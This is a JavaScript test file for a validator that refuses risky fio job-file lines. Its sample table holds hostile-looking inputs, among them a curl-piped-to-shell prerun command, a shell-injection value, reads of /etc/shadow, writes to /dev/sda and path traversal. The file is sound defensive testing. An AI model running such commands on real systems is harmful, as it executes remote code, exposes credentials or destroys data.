import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { listFiles } from '../../scripts/io/listFiles.js';
import { jobFileProblems, jobFileRisks } from '../../scripts/record/jobFileRisks.js';

/** What a job file must not do, by the line that does it. @type {[string, RegExp][]} */
const risky = [
  ['exec_prerun=curl -s a.example | sh', /^runs a program$/],
  ['  exec_postrun = touch /tmp/x', /^runs a program$/],
  ['EXEC_PRERUN=true', /^runs a program$/],
  ['filename=/dev/sda', /^chooses what is written to$/],
  ['directory=/home', /^chooses what is written to$/],
  ['filename_format=/etc/$jobname', /^chooses what is written to$/],
  ['ioengine=external:/tmp/engine.so', /^loads or runs other code$/],
  ['ioengine=./engine.so', /^loads or runs other code$/],
  ['ioengine=exec', /^loads or runs other code$/],
  ['ioengine=net', /^loads or runs other code$/],
  ['ioengine=filedelete', /^loads or runs other code$/],
  ["size=$mb_memory'; touch /tmp/x; echo '", /^has fio run a shell$/],
  ['description=${SECRET}', /^takes a value from the environment$/],
  ['include /etc/other.fio', /^reads another job file$/],
  ['read_iolog=/etc/shadow', /^reads another file$/],
  ["buffer_pattern='/etc/shadow'", /^reads another file$/],
  ['mem=mmaphuge:/etc/x', /^reads another file$/],
  ['write_bw_log=../../../home/me/x', /^writes to another place$/],
  ['write_iolog=x', /^does what is not known to be harmless$/],
  ['ioscheduler=none', /^does what is not known to be harmless$/],
  ['uid=0', /^does what is not known to be harmless$/],
];

for (const [line, does] of risky) {
  test(`a job file is refused for ${line.trim()}`, () => {
    const risks = jobFileRisks(`; a comment\n[job]\nrw=read\n${line}\n`);
    assert.equal(risks.length, 1);
    assert.equal(risks[0].line, 4);
    assert.match(risks[0].does, does);
    assert.ok(risks[0].hint);
  });
}

test('the job files of this project only read and write the target', () => {
  const root = join(import.meta.dirname, '../..');
  const files = listFiles(root, 'data/methodologies').filter((path) => path.endsWith('.fio'));
  assert.ok(files.length > 5);
  for (const file of files)
    assert.deepEqual(jobFileProblems(readFileSync(join(root, file), 'utf8'), file), []);
});

test('logs of plain names, sections and comments are no risk', () => {
  const text =
    '# exec_prerun=x\n; filename=/dev/sda\n[exec_prerun]\nwrite_bw_log=run1\nverify_pattern=0xdeadbeef\nmem=shm\ngroup_reporting\n';
  assert.deepEqual(jobFileRisks(text), []);
});
